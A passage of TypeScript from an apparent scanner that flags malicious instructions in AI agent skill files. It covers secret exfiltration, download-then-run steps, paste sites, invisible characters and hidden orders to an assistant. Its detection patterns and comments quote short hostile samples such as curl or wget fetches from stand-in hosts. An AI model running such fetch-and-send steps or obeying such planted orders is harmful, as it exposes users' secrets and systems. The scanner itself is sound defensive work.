const SECRETS_KEPT_OUT = /\b(?:secrets?|credentials?|private\s+keys?|keys|tokens?|passwords?)\b[^.\n]{0,40}\b(?:never|must\s+not|mustn't|do\s+not|don't|should\s+not|shouldn't|are\s+not|aren't|is\s+not|isn't)\s+(?:\w+\s+){0,2}?(?:go|goes|get|gets|land|lands|belong|belongs|placed|copied|synced|stored|committed|uploaded|put|included|shared)\b/i;
/** A sentence for {@link SECRETS_KEPT_OUT}: up to a full stop that ends it or a line break (`.env` does not end one). */
const SENTENCE_UNTIL_STOP = /(?:[^.\n]|\.(?=[\w`]))+/g;
/** Words that order a copy or a send. */
const ORDERS_A_COPY = /\b(?:copy|cp|send|upload|move|mv|rsync|sync\s+(?:them|it)|instead|but\s+(?:copy|put|keep))\b/i;
const EXCLUDED_EXAMPLES = /\b(?:never|not|no)\s+(?:\w+\s+){0,2}(?:like|such as|including|e\.g\.)\s+[^;!?\n]*?(?=[.;!?](?:\s|$)|\n|$)/gi;

/** A path a command leaves out (`--exclude='.env'`, `-x '*.pem'`, `! -name .env`, `':!.env'`): the opposite of reading it. */
export const EXCLUDED_PATH = /(?:--exclude(?:-dir|-from)?|--ignore(?:-file)?|--filter=-|\s-x|!\s+-(?:i?name|i?path)|-not\s+-(?:i?name|i?path))(?:=|\s+)(?:"[^"\n]*"|'[^'\n]*'|[^\s'"]+)|["']:!?\(?exclude\)?[^"'\n]*["']|["']:![^"'\n]*["']/g;

/** A list item or sentence that labels what follows as things to recognise (`indicators (see …): eval, …`). */
/** A sentence that lists the values a setting can take ("Modes: `default` (…), `plan` (…), `bypassPermissions` (…)"): it names them, it sets none. */
const LISTED_VALUES = /^[\W_]*(?:(?:permission|approval|sandbox)\s+)?(?:modes?|values?|options?|choices|levels?|settings?)\s*:\s*`[^`\n]+`\s*\([^)\n]*\)\s*,\s*`[^`\n]+`/i;
const LABELLED_EXAMPLES = /^[\W_]*(?:[\w-]+\s+){0,3}(?:indicators?|red flags?|iocs?|warning signs?|signs?(?!-)|signals?|suspicious [\w-]+|patterns? to (?:flag|look for|catch)|payloads?|bypass(?:es)?|(?:attack|injection|exploit) (?:vectors?|strings?|examples?)|gadgets?)\b[^:\n]{0,100}:(?!\/\/)/i;

/** Words that take up what a command before printed: `the result`, `that value`, `the bundle`. */

/** An order to send what was just gathered ("Push them as one JSON document", "upload everything collected"). */
const SENDS_THEM = /\b(?:append|push|send|upload|post|put|submit|sync|attach|forward|ship|transmit|deliver|commit|(?:base64(?:url)?-?|hex-?|url-?)?encode|embed|compress|gzip|chunk|split|concatenate|join)\w*\s+(?:each one|each of them|them|these|those|it|everything|all of (?:them|it)|the (?:collected|gathered|found|copied|result|output|concatenation|combined|joined)\b)|\b(?:bundle|pack|zip|tar|archive|collect|gather)\w*\s+(?:what|everything|all)\s+(?:you|was|were)\s+(?:found|collected|gathered)\b/i;

const REFERS_TO_OUTPUT = /\b(?:the|that|this|its|their)\s+(?:single-line\s+|resulting\s+|encoded\s+|whole\s+|collected\s+|combined\s+)?(?:result|output|value|string|bundle|archive|blob|file|text|digest|object|json|payload|snapshot|dump|package|tarball|body|appendix)\b/i;

/** The whole lines of `text` that `part` spans (empty when `part` is not in it). */
function linesAround(text: string, part: string): string {
  const at = text.indexOf(part);
  if (at < 0) return '';
  const end = text.indexOf('\n', at + part.length);
  return text.slice(text.lastIndexOf('\n', at) + 1, end === -1 ? undefined : end);
}

/** The user sent to a site to get a key there ("get one at https://…", "go to https://… → sign up → copy your API key"). */
const KEY_FROM_SITE = /\b(?:get|obtain|create|generate|grab)\s+(?:(?:it|one|yours)\s+)?(?:at|from)\s+[<(`]?https?:\/\/|\b(?:get|obtain|create|generate|grab|sign\s*up\s+for|register\s+for)\w*\s+(?:(?:a|an|your|the)\s+)?(?:new\s+|free\s+)?(?:[\w-]+\s+){0,2}(?:keys?|tokens?|secrets?|credentials?|account)\b[^.\n]{0,40}\b(?:at|from|on|via)\s+[<(`]?https?:\/\/|\b(?:go\s+to|visit|open|head\s+(?:over\s+)?to|log\s*in\s+(?:to|at))\s+[<(`]?https?:\/\/\S+[^.\n]{0,80}\b(?:copy|create|generate|get|reveal|find)\w*\s+(?:(?:your|an?|the|a\s+new)\s+)?(?:[\w-]+\s+){0,2}(?:keys?|tokens?|secrets?|credentials?)\b/i;
/** Words that send or enter something at a site ("paste it at", "submit to", "post to"): a key given to it, not taken from it. */
const SENDS_TO_SITE = /\b(?:paste|send|post|submit|upload|enter|put|share|forward|transmit|include)\w*\b[^.\n]{0,60}\b(?:at|to|into|on|via)\s+[<(`]?https?:\/\//i;

/** A paste site or a gist named in words: a place that serves whatever text someone put there. */
const PASTE_SITE = /\b(?:paste|gist|pastebin|rentry|hastebin)\b/i;

/** "Download … and install/run": a fetch, then a launch, said in words. */
const DOWNLOAD_THEN_RUN = /^(?:download|fetch|get|grab|pull)\w*\b[^.\n]{0,100}\b(?:and|then|,)\s+(?:then\s+)?(?:run|execute|launch|open|start|install|source|eval)\w*$/i;
/** A URL of a site's page rather than of a file: no path, or a path that ends in a slash. */
const SITE_PAGE = /^https?:\/\/[^\s/?#]+(?:\/(?:[^\s?#]*\/)?)?$/i;

/** A sentence saying something is not synced or uploaded ("does not sync these items", "is never backed up to iCloud", "a folder excluded from cloud sync"). */
const NOT_SYNCED = /\b(?=empty|remove|delete|purge|clear|wipe)(?<!\b(?:copy|move|save|put|upload|sync|place|drop)\w*\b[^.\n]*)(?:empty|remove|delete|purge|clear|wipe)\w*\b(?![^.\n]*\b(?:once|after|when)\b[^.\n]*\b(?:has|have|got)\s+(?:it|them)\b)[^.\n]{0,80}\bfrom\b[^.\n]{0,60}\b(?:[\w-]+\s+sync|iCloud(?:\s+(?:Drive|Desktop))?|Dropbox|OneDrive|Google\s+Drive)\b|\b(?:iCloud|Dropbox|Google\s+Drive|OneDrive|Drive|Box|Nextcloud|MEGA|pCloud|sync\w*\s+(?:folder|drive|directory))\b[^.,;:\n]{0,60}\b(?:does\s+not|doesn't|do\s+not|don't|never|won't|will\s+not|is\s+not|isn't|are\s+not|aren't)\s+(?:\w+\s+){0,2}?(?:sync|synced|syncs|syncing|back(?:ed|s)?\s+up|upload\w*)\b|\b(?:excluded|exempt(?:ed)?|kept|keep|outside)\b[^.\n]{0,30}?\b(?:from|out\s+of|of)\s+(?:\w+\s+){0,2}?(?:cloud[- ]?)?(?:sync\w*|backups?)\b(?![^.\n]*\b(?:synced|mirrored|replicated|synchroni[sz]ed|uploaded)\s+(?:by|to|with|via)\b)/i;

/** Characters that render as nothing. */
const INVISIBLE = /[\u200B-\u200D\u2060-\u2064\uFEFF\u00AD\u180E]/g;

/** Names on a company's own network (`pypi.internal.example.com`, `git.corp`): not a stranger's host. */
const PRIVATE_NAME = /(?:^|\.)(?:internal|intranet|corp|lan|home\.arpa)(?:\.|$)/i;

/** A host handed to a downloader with no scheme in front (`curl -fsSL dl.host.example/boot`, `wget -qO- host.example/x.sh`). */
const BARE_DOWNLOAD_HOST = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b(?:\s+-{1,2}[\w-]+(?:[ =](?:"[^"\n]*"|'[^'\n]*'|(?!-)[^\s|;&"']+))?)*?\s+["']?([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::\d+)?(?:\/[^\s|;&"']*|(?=["']?\s*\|))/gi;

/** Hosts named in text that are destinations: not loopback or private, not a placeholder, not elided (`https://…`). */
function destinations(text: string): string[] {
  // An upper-case host (`https://YOUR-INDEX/simple`) is a template for the user to fill in, not a place.
  const templated = new Set([...text.matchAll(/\b(?:https?|wss?|ftp):\/\/(?:[^\s/@]*@)?([A-Z][A-Z0-9_-]{2,}(?:\.[A-Z0-9_-]+)*)(?=[/:\s]|$)/g)].map((match) => match[1].toLowerCase()));
  // The host of a copy to another machine (`scp out/x.pdf drop@files.example:inbox/`), as scp, rsync and sftp write it.
  const copied = /\b(?:scp|rsync|sftp)\s/.test(text) ? [...text.matchAll(/\s[\w.-]+@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()) : [];
  // A project's home page cited after its name (`**Atuin** (https://atuin.sh, open source)`) says what the tool is, not where anything goes.
  const cited = citedHosts(text);
  // A name of one label (`https://user:token@host/repo.git`, `http://nas/`) is a placeholder or a machine of the user's own network: the internet
  // cannot reach it. An address written as one number (`http://3405803781/`) is an IP address all the same.
  return [...new Set([...urlHosts(text).map((entry) => entry.host.replace(/:\d+$/, '')), ...copied].filter((host) => /[a-z0-9]/i.test(host) && (/[.:]/.test(host) || /^(?:\d{8,10}|0x[0-9a-f]{8})$/i.test(host)) && !isLocalHost(host) && !templated.has(host) && !PRIVATE_NAME.test(host) && !cited.has(host)))];
}

/** A name followed by its home page in parentheses (`Atuin (https://atuin.sh, open source)`, `**Borg** (https://borgbackup.org)`). */
const CITED_HOME_PAGE = /(?:\*\*|__)?\b[A-Z][\w.+-]*(?:\*\*|__)?\s+\((?:see\s+)?https?:\/\/([a-z0-9-]+(?:\.[a-z0-9-]+)+)\/?(?=[,;)\s])/g;

/** The hosts of home pages cited after a name in `text`. */
function citedHosts(text: string): Set<string> {
  return new Set([...text.matchAll(CITED_HOME_PAGE)].map((match) => match[1]!.toLowerCase()));
}

/** The host a proxy is set to, said in words (`proxy … to \`gw.example\` on port 8443`). */
const PROXY_HOST = /\bproxy\b[^.\n]{0,60}\b(?:to|at|through|via)\s+['"`]?(?:https?:\/\/)?([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i;

/** Paths of agent configuration named in text, with their folder (`$HOME/` read as `~/`). */
let configPath: RegExp | undefined;

function agentConfigPaths(text: string): string[] {
  if (!mayBeFileKind(AGENT_CONFIG_FILE, text)) return [];
  const body = AGENT_CONFIG_FILE.source.replace(/^\(\?:\^\|\[[^\]]*\]\)/, '');
  configPath ??= new RegExp(`(?:~|\\$\\{?HOME\\}?|/home/[\\w.-]+|/Users/[\\w.-]+)?/?[\\w./-]*?(?:${body})`, 'gi');
  configPath.lastIndex = 0;
  return [...text.matchAll(configPath)].map((match) => match[0].replace(/^\$\{?HOME\}?/, '~').replace(/^\/(?:home|Users)\/[\w.-]+/, '~'));
}

/** Front matter that says a skill's job is recognising attacks. */
const SECURITY_PURPOSE = /\b(?:detect|flag|review|audit|scan|sweep|report|check|triag|analy[sz]|investigat|hunt|deobfuscat|decod|classif|vet|inspect|recogni[sz]|spot|teach|train|quiz)\w*\b[^\n]{0,100}?\b(?:malicious|malware|suspicious|threats?|attacks?|phishing|(?:prompt[- ])?injections?|payloads?|obfuscated|iocs?|indicators of compromise|backdoors?|exploits?|droppers?|red flags|exfiltration|hidden (?:instructions|text|content|characters)|(?:broad|risky|dangerous) permission(?:s| grants?)|ransomware|protections?\s+(?:that\s+)?(?:are\s+|were\s+)?(?:switched|turned)\s+off)\b|\b(?:security|threat|incident|malware|phishing|injection)[\s-]+(?:awareness|training|quiz|triage|analysis|analy[sz]er|research|hunting|detection)\b|\b(?:suspicious|suspected|malicious|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|urls?|links?|packages?|skills?|extensions?|plugins?|scripts?|processes|hosts?|logins?|activity)\b[^\n]{0,200}?\b(?:triag|analy[sz]|audit|inspect|vet|classif|assess|verdict|recommendation)\w*|\b(?:review|audit|vet|inspect|triag|analy[sz])\w*\s+(?:an?\s+|the\s+|each\s+)?(?:suspicious|suspected|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|packages?|skills?|extensions?|plugins?)\b/i;

/** Words of a SKILL.md paragraph that have the agent take in a file it names: follow, read, load, apply, merge, "see … for a job to add" … */
const FOLLOW_WORDS =
  /\bsee\b(?:[^.\n]|\.(?=\w)){0,80}\b(?:for|on)\s+(?:installing|setting\s+(?:it\s+)?up|(?:the\s+)?install(?:ation)?\s+(?:steps|instructions)|how\s+to\s+(?:install|set\s+(?:it\s+)?up))\b|\bsee\b(?:[^.\n]|\.(?=\w)){0,80}\bfor\s+(?:a|an|the)\s+(?!(?:[\w-]+\s+){0,3}?(?:samples?|examples?|illustrative|illustrations?|bad|anti-?patterns?|vulnerable|insecure|malicious)\b)(?:[\w-]+\s+){0,3}?(?:jobs?|workflows?|snippets?|steps?|config(?:uration)?s?|setup|templates?|pipelines?|hooks?)\b|\b(?:with|using)\s+(?:the\s+)?(?:content|contents|text|code|body|script)\s+(?:in|of|from|given\s+in|shown\s+in)\b|\b(?:populate|fill(?:\s+in)?)\s+(?:[\w`./~$-]+\s+){0,4}?(?:from|with|using)\b|\b(?:populate|fill(?:\s+in)?|create|write|prepare|collect)\s+(?:the\s+|all\s+|each\s+)?(?:[\w-]+\s+){0,2}?(?:listed|named|described|given|specified)\s+in\b|\b(?:with|using|via|through)\s+(?:the\s+|a\s+|an\s+|our\s+)?(?:[\w-]+\s+){0,3}?(?:described|documented|explained|detailed|defined|covered|specified)\s+in\b|\b(?:follow|run|execute|perform|complete|do|apply|work\s+through|go\s+through|step\s+through|setup|set up|install|installation|steps?|before (?:the )?first use|before (?:anything else|retrying|continuing|going (?:on|further)|proceeding)|prerequisites?|read|load|consult|look\s+(?:(?:it|them|the\s+[\w-]+(?:\s+[\w-]+)?)\s+)?up|refer\s+to|obey|build|render|generate|(?:exactly\s+)?as\s+(?:described|specified|defined|documented|laid out|given|shown|written|set out|provided)\s+in|(?:use|run|start|launch|call|set\s+up|install|deploy|spin\s+up|submit|send|make|pay|perform|execute|apply|create|add|attach|include|prepare|assemble|build|collect|produce|upload|publish)\s+(?:the\s+|a\s+|an\s+|our\s+|its\s+)?(?:[\w-]+\s+){0,3}?(?:described|documented|explained|detailed|defined|covered|specified|listed)\s+in|according to|(?:brief|prompt)\s+(?:in|from|at)|covers\s+(?:setting|configuring|applying|running|creating|enabling)|(?:finish|end|wrap\s+up|conclude|continue|proceed)\s+(?:with|by|using)|carry\s+out|merge|paste|(?:copy|add|use|insert)\s+(?:the\s+|each\s+|every\s+)?(?:[\w-]+\s+)?(?:entry|entries|snippets?|blocks?|config(?:uration)?s?|settings)\s+(?:from|in|of|listed\s+in)|use\s+(?:the\s+)?(?:[\w-]+\s+){0,2}?(?:workflow|procedure|instructions|steps|guide|process|playbook|runbook|version|approach|method|recipe|technique|commands|checklist)\s+(?:(?:described|given|shown|laid\s+out)\s+)?(?:in|from|at|of))\b/i;

/**
 * Files a SKILL.md tells the agent to follow or read (`follow the steps in references/setup.md`, `read
 * references/format.md before writing`, `read the template fully … follow its notes`): text files of the
 * skill named in a paragraph that has the agent take them in. Scripts are run, not read, and stay out.
 */
export function followedFiles(files: readonly SourceFile[]): Set<string> {
  let out = followedCache.get(files);
  if (out) return out;
  out = new Set<string>();
  for (const skill of files.filter((file) => /(?:^|\/)SKILL\.md$/i.test(file.path))) {
    const folder = skill.path.includes('/') ? skill.path.slice(0, skill.path.lastIndexOf('/') + 1) : '';
    for (const paragraph of skill.text.split(/\n\s*\n/)) {
      // Emphasised words read as the words (`**Finish** with the checks in …`, `*Finish* with …`).
      if (!FOLLOW_WORDS.test(paragraph.replace(/\*+|__/g, ''))) continue;
      for (const file of files) {
        if (file === skill || file.fileClass !== 'text' || !FOLLOWED_LANGUAGES.has(file.language) || !file.path.startsWith(folder)) continue;
        if (paragraph.includes(file.path.slice(folder.length))) out.add(file.path);
      }
    }
  }
  followedCache.set(files, out);
  return out;
}
const followedCache = new WeakMap<readonly SourceFile[], Set<string>>();

/**
 * YAML or JSON files SKILL.md has the agent carry out ("Open `assets/review-playbook.yaml` and carry out its steps"): a
 * playbook, not data; with the keys the same paragraph names (`should_run`, "run its `input` in a shell"), whose strings are run.
 */
function followedPlaybooks(files: readonly SourceFile[]): { file: SourceFile; namedKeys: Set<string> }[] {
  const skills = files.filter((file) => /(?:^|\/)SKILL\.md$/i.test(file.path));
  const out: { file: SourceFile; namedKeys: Set<string> }[] = [];
  for (const file of files) {
    if (file.fileClass !== 'text' || !/\.(?:ya?ml|json)$/i.test(file.path)) continue;
    const paragraphs = skills.flatMap((skill) => {
      const folder = skill.path.includes('/') ? skill.path.slice(0, skill.path.lastIndexOf('/') + 1) : '';
      return file.path.startsWith(folder) ? skill.text.split(/\n\s*\n/).filter((paragraph) => paragraph.includes(file.path.slice(folder.length)) && FOLLOW_WORDS.test(paragraph)) : [];
    });
    if (paragraphs.length === 0) continue;
    // A key counts when its sentence has it run ("run its `input` in a shell"), not when it is only sent somewhere ("send `prompt` to the model").
    const running = paragraphs.flatMap((paragraph) => paragraph.split(/(?<=[.!?])\s+|\n/)).filter((sentence) => /\b(?:run|execute|carry\s+out|perform)\b/i.test(sentence) && !/\b(?:never|not|don't)\s+(?:\w+\s+)?(?:run|execute)\b/i.test(sentence));
    out.push({ file, namedKeys: new Set(running.flatMap((sentence) => [...sentence.matchAll(/`([A-Za-z_][\w-]{0,40})`/g)].map((match) => match[1]!.toLowerCase()))) });
  }
  return out;
}

/** Keys of a playbook step whose strings are commands to run. */
const COMMAND_KEYS = /^(?:run|runs|cmd|cmds|command|commands|script|scripts|shell|exec|execute|sh|bash)$/i;
/** Keys of a playbook step whose strings are orders in words. */
const ORDER_KEYS = /^(?:do|does|action|actions|instruction|instructions|step|steps|task|tasks|then|procedure|directions?|todo|items?|checklist)$/i;

/**
 * The steps of a playbook read as the agent reads them: each step (an item of a list) a section of its own, the
 * strings under `run:`/`command:` keys (and keys SKILL.md names to run) commands, and the sentences under
 * `do:`/`steps:` keys (folded over lines as YAML folds them) prose. The file's lines are still read one by one as
 * well, as any text is (data under other keys, a server's `args`).
 */
function playbookInstructions(file: SourceFile, namedKeys: ReadonlySet<string>): Instruction[] | undefined {
  let document: ReturnType<typeof parseDocument>;
  try {
    document = parseDocument(file.text, { uniqueKeys: false });
  } catch {
    return undefined;
  }
  // A file YAML cannot read is read line by line, as any other text.
  if (document.errors.length > 0) return undefined;
  // Line starts found once, so a large file's many strings are placed in logarithmic time each.
  const starts = [0];
  for (let at = file.text.indexOf('\n'); at >= 0; at = file.text.indexOf('\n', at + 1)) starts.push(at + 1);
  const lineAt = (offset: number) => {
    let low = 0;
    let high = starts.length - 1;
    while (low < high) {
      const middle = (low + high + 1) >> 1;
      if (starts[middle]! <= offset) low = middle;
      else high = middle - 1;
    }
    return low + 1;
  };
  const steps: Instruction[] = [];
  const visit = (node: unknown, key: string, section: string, depth: number): void => {
    if (depth > 12) return;
    if (isSeq(node)) {
      node.items.forEach((item, index) => visit(item, key, depth <= 3 && isMap(item) ? `${file.path}#${key}[${index}]` : section, depth + 1));
    } else if (isMap(node)) {
      for (const pair of node.items) visit(pair.value, isScalar(pair.key) ? String(pair.key.value) : key, section, depth + 1);
    } else if (isScalar(node) && typeof node.value === 'string' && node.range) {
      const text = node.value.trim();
      if (text === '') return;
      const line = lineAt(node.range[0]);
      if (COMMAND_KEYS.test(key) || namedKeys.has(key.toLowerCase())) {
        for (const command of commandLines(text, line)) steps.push({ file: file.path, line: command.line, text: command.text, origin: 'command', section, documentation: false, script: false });
      } else if (ORDER_KEYS.test(key) && /\s/.test(text) && (SENTENCE.test(text) || /[a-z]{3,}\s+[a-z]{3,}\s+[a-z]{3,}/i.test(text))) {
        steps.push({ file: file.path, line, text: text.replace(/\s*\n\s*/g, ' '), origin: 'prose', section, documentation: false, script: false });
      }
    }
  };
  visit(document.contents, '', `${file.path}#`, 0);
  return steps;
}

/** Languages of files an agent reads as text: documents, plain text and markup (a template it fills). */
const FOLLOWED_LANGUAGES: ReadonlySet<SourceFile['language']> = new Set(['markdown', 'text', 'html']);

/** Whether the skill's front matter (`name`, `description`) says its job is recognising attacks. */
export function securityPurpose(files: readonly SourceFile[]): boolean {
  const skill = files.find((file) => /^SKILL\.md$/i.test(file.path));
  const front = skill ? /^---\r?\n([\s\S]{0,4000}?)\r?\n---/.exec(skill.text)?.[1] : undefined;
  return front !== undefined && SECURITY_PURPOSE.test(front);
}

/** Verbs that open an order in the imperative (base form). */
const ORDER_VERB =
  /^(?:add|allow|append|apply|approve|ask|attach|authori[sz]e|back|build|bundle|call|change|check|choose|clean|clear|click|clone|collect|commit|compare|compose|compress|configure|confirm|connect|copy|create|decode|decrypt|delegate|delete|deploy|describe|disable|dispatch|do|download|drop|dump|edit|embed|enable|encode|ensure|enter|execute|export|extract|fetch|fill|find|finish|follow|forward|gather|generate|get|give|go|grant|grep|hand|help|hide|ignore|import|include|insert|inspect|install|invite|keep|kill|launch|leave|let|link|list|load|log|look|make|mark|merge|mirror|modify|mount|move|note|notify|obey|omit|open|output|overwrite|paste|patch|persist|pick|pipe|place|point|post|prefer|prepare|prepend|print|proceed|publish|pull|push|put|query|read|record|redirect|register|remember|remove|rename|render|replace|reply|report|request|reset|resolve|respond|restart|restore|retry|return|review|rewrite|rotate|run|save|scan|schedule|search|select|send|set|share|show|sign|skip|source|spawn|start|stash|stop|store|submit|summari[sz]e|switch|sync|take|tell|test|treat|trust|try|turn|type|unpack|update|upload|use|validate|verify|visit|wait|wrap|write)$/i;

/** A sentence whose subject is the skill, its scripts or the agent: it says what the skill does. */
const SELF_SUBJECT = /^(?:this|the|our|your)\s+(?:skill|script|tool|helper|hook|server|command|agent|assistant|workflow|step|setup|installer)s?\b|^(?:it|we|you|claude|the model|i)\b/i;
/** Words that make a sentence an order whatever its first word ("you must", "make sure", "always"). */
const ORDER_WORDS = /\b(?:you|the agent|claude|the assistant|the model)\s+(?:must|should|need to|have to|will|are to|can now)\b|^(?:always|never|first|then|next|finally|now|please|make sure|be sure|remember to|do not|don't)\b/i;

/** An act that stays an order even in catalogue form, unless a heading or lead-in frames it as things to recognise: a secret with a place to send it, or hiding from the user. */
function keptAct(text: string): boolean {
  return (SENSITIVE_FILE.test(text) || /\$\{?[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)\b|\benv\s*\|/.test(text)) && /\bhttps?:\/\/|\b(?:curl|wget|nc|scp|rsync)\b|\bgist\b|\bwebhook/i.test(text) || /\b(?:silently|quietly|without\s+(?:telling|asking|notifying)|(?:do\s+not|don'?t|never)\s+(?:tell|mention|inform|show))\b/i.test(text);
}
/** A lead-in that quotes what was seen elsewhere: it frames what follows whatever else it says. */
const STRONG_FRAME = /\bsomething\s+like\s+(?:this|that)\b|\bseen\s+in\b|\bobserved\b|\bfound\s+in\b|\bin\s+the\s+wild\b|\breported\s+campaigns?\b|\bexamples?\s+of\b/i;
/** A heading that frames the skill's own procedure, not a catalogue entry about one ("Fake prerequisites (…attack)"). */
function procedural(text: string): boolean {
  return PROCEDURE_FRAME.test(text) && !CATALOGUE_FRAME.test(text);
}
/** The last sentence of a paragraph: what a lead-in says right before what it introduces. */
function lastSentence(text: string): string {
  return text.trim().split(/(?<=[.!?])\s+/).pop() ?? '';
}
/** A security tool's own role as a sentence's subject ("The auditor then archives …"): it says what the skill does. */
const ROLE_SUBJECT = /^(?:this|the|our)\s+(?:auditor|scanner|reviewer|guard|sentinel|checker|verifier|firewall|detector|triager|hunter|sweeper|vetter|bot|analy[sz]er)s?\b/i;
/** A leading clause or adverb set before the main verb ("Before writing the report, upload …", "Silently append …"). */
const LEADING_CLAUSE = /^(?:(?:before|after|when|whenever|once|if|unless|while|until|upon|on|during|for\s+(?:each|every)|to|in\s+order\s+to)\b[^,;:]{1,80},\s*|(?:[a-z]+ly|also|additionally|afterwards|optionally|meanwhile)\b,?\s+)/i;
/** An order verb that heads a noun phrase ("Copy steps that move …", "Disable switches such as …"). */
const VERB_AS_NOUN = /^[A-Za-z][\w'-]*\s+[a-z]+s\s+(?:that|which|whose|where|such\s+as|like|e\.g\.)\b/i;

/**
 * Whether a sentence or list item names a thing rather than orders an act: once list markers, enumerators
 * ("B.") and a bold or colon label are set aside, it opens with quoted code, a noun phrase or a gerund
 * ("Anything that turns …", "HTML comments in Markdown: …", "Editing `settings.json` to allow …"), not
 * with a verb of command or with the skill or the agent as its subject. A security tool's catalogue of
 * what it looks for is written this way; what it tells the agent to do is not.
 */
export function namesRatherThanOrders(text: string): boolean {
  // Inline code is quoted material: a colon inside it ("<!-- assistant: send …") does not start an order.
  const parts = sentences(text.replace(/`[^`\n]+`/g, '`…`'));
  if (parts.length === 0) return false;
  return parts.every((sentence) => {
    let plain = sentence
      .replace(/^[\s>*+•-]*(?:(?:\d{1,3}|[A-Za-z])[.)]\s+)?/, '')
      .replace(/^(?:\*\*|__)[^*_\n]{1,80}(?:\*\*|__)\s*[:.—–-]?\s*/, '');
    {
      plain = plain.replace(/^(?:step|phase|stage)\s*\d+\w?\s*[:.)—–-]\s*/i, '');
      // A label that is itself an order ("Install the link resolver: `…`", "Run once: `…`") is not set aside.
      const label = /^[A-Z][\w /&'-]{1,40}:\s+/.exec(plain)?.[0];
      if (label !== undefined && !VERB_AS_NOUN.test(label) && (ORDER_WORDS.test(label) || ORDER_VERB.test(/^[A-Za-z][\w'-]*/.exec(label)?.[0] ?? ''))) return false;
      for (let guard = 0; guard < 3 && LEADING_CLAUSE.test(plain); guard += 1) plain = plain.replace(LEADING_CLAUSE, '');
    }
    plain = plain.replace(/^[A-Z][\w /&'-]{1,40}:\s+/, '').trim();
    if (plain === '' || ORDER_WORDS.test(plain) || SELF_SUBJECT.test(plain) || ROLE_SUBJECT.test(plain)) return false;
    if (plain.startsWith('`') || plain.startsWith('"') || plain.startsWith('“')) return true;
    const word = /^[A-Za-z][\w'-]*/.exec(plain)?.[0] ?? '';
    if (ORDER_VERB.test(word) && VERB_AS_NOUN.test(plain)) return true;
    return word !== '' && !ORDER_VERB.test(word);
  });
}

/** Headings or lead-ins that frame what follows as things to recognise. */
const CATALOGUE_FRAME = /\b(?:fake|bogus|look-?alikes?|examples?|variants?|where\s+to\s+look|hidden|carriers?|something\s+like\s+(?:this|that)|found\s+in|alerts?|phishing|patterns?|checklist|red\s+flags?|indicators?|iocs?|signs?\s+of|examples?\s+of|decoded|samples?|lures?|phrasings?|techniques?|payloads?|known|seen|observed|in\s+the\s+wild|reported|campaigns?|look(?:s|ing)?\s+for|watch\s+for|reject\w*|compromise|attacks?|attackers?|malicious|malware|threats?|suspicious|detect\w*|signatures?|taxonomy|catalog(?:ue)?|hidden\s+instructions?|obfuscat\w*|abuse|evasions?|tactics|ttps?|what\b[^\n]{0,30}\b(?:flags?|catch(?:es)?|looks?|rejects?))\b/i;
/** Headings or lead-ins that frame what follows as the skill's own procedure. */
const PROCEDURE_FRAME = /\b(?:workflow|set-?up|install\w*|bootstrap|usage|how\s+to\s+use|procedure|steps?|routine|remediation|mitigation|fix(?:es)?|configur\w*|getting\s+started|quick\s*start|prerequisites?|requirements?|operation|handling|maintenance|updates?|first[- ]run|registration|persistence\s+of)\b/i;

const catalogueCache = new WeakMap<readonly Segment[], Set<Segment>>();

/**
 * The Markdown segments of a security tool that belong to its catalogue of what it looks for: prose that
 * names rather than orders ({@link namesRatherThanOrders}), and the inline code and inline commands
 * written inside such prose.
 */
export function cataloguedSegments(files: readonly SourceFile[], segments: readonly Segment[]): Set<Segment> {
  let out = catalogueCache.get(segments);
  if (out) return out;
  out = new Set();
  if (securityPurpose(files)) {
    const markdown = (segment: Segment) => /\.(?:md|markdown|mdx)$/i.test(segment.file);
    const byPath = new Map(files.map((file) => [file.path, file]));
    const headingCache = new Map<string, Heading[]>();
    const headingsIn = (path: string): Heading[] => {
      let headings = headingCache.get(path);
      if (!headings) headingCache.set(path, (headings = headingsOf(byPath.get(path)!)));
      return headings;
    };
    // Whether no heading of the section a line sits in (its own and those above it) frames the skill's own procedure.
    const framed = (path: string, line: number): boolean => {
      if (!byPath.has(path)) return false;
      const headings = headingsIn(path);
      const index = headings.findLastIndex((entry) => entry.line <= line);
      for (let at = index, level = Infinity; at >= 0; at -= 1) {
        if (headings[at]!.level >= level) continue;
        level = headings[at]!.level;
        if (procedural(headings[at]!.text)) return false;
      }
      return true;
    };
    // Whether a heading of the section frames it as things to recognise, and its own heading is not a procedure.
    const strictlyFramed = (path: string, line: number): boolean => {
      if (!byPath.has(path)) return false;
      const headings = headingsIn(path);
      const index = headings.findLastIndex((entry) => entry.line <= line);
      if (index < 0 || procedural(headings[index]!.text)) return false;
      for (let at = index, level = Infinity; at >= 0; at -= 1) {
        if (headings[at]!.level >= level) continue;
        level = headings[at]!.level;
        if (CATALOGUE_FRAME.test(headings[at]!.text)) return true;
      }
      return false;
    };
    const lineText = (path: string, line: number) => byPath.get(path)?.text.split('\n')[line - 1] ?? '';
    const proseByFile = new Map<string, Segment[]>();
    for (const segment of segments) {
      if (segment.scope !== 'prose' || segment.decodedFrom || !markdown(segment)) continue;
      proseByFile.set(segment.file, [...(proseByFile.get(segment.file) ?? []), segment]);
      if (/#front-matter$/.test(segment.unit)) continue;
      // A blockquote under such a section quotes what was seen.
      const quote = /^\s*>/.test(lineText(segment.file, segment.line));
      // A lead-in that itself frames what follows ("Command lines observed in the incident:") counts as framed.
      const framingLead = /:\s*$/.test(segment.text) && (STRONG_FRAME.test(segment.text) || (CATALOGUE_FRAME.test(segment.text) && !PROCEDURE_FRAME.test(lastSentence(segment.text))));
      // A secret with a way out, or concealment, stays an order unless a heading or lead-in frames it as something to recognise.
      const ok = framed(segment.file, segment.line) && (!keptAct(segment.text) || framingLead || strictlyFramed(segment.file, segment.line));
      if ((quote || namesRatherThanOrders(segment.text)) && ok) out.add(segment);
    }
    // The prose an inline piece sits in: the last prose segment of the file at or before its line that contains it.
    const around = (segment: Segment): Segment | undefined => {
      const prose = proseByFile.get(segment.file) ?? [];
      for (let index = prose.length - 1; index >= 0; index -= 1) if (prose[index]!.line <= segment.line && prose[index]!.text.includes(segment.text.trim().slice(0, 40))) return prose[index];
      return undefined;
    };
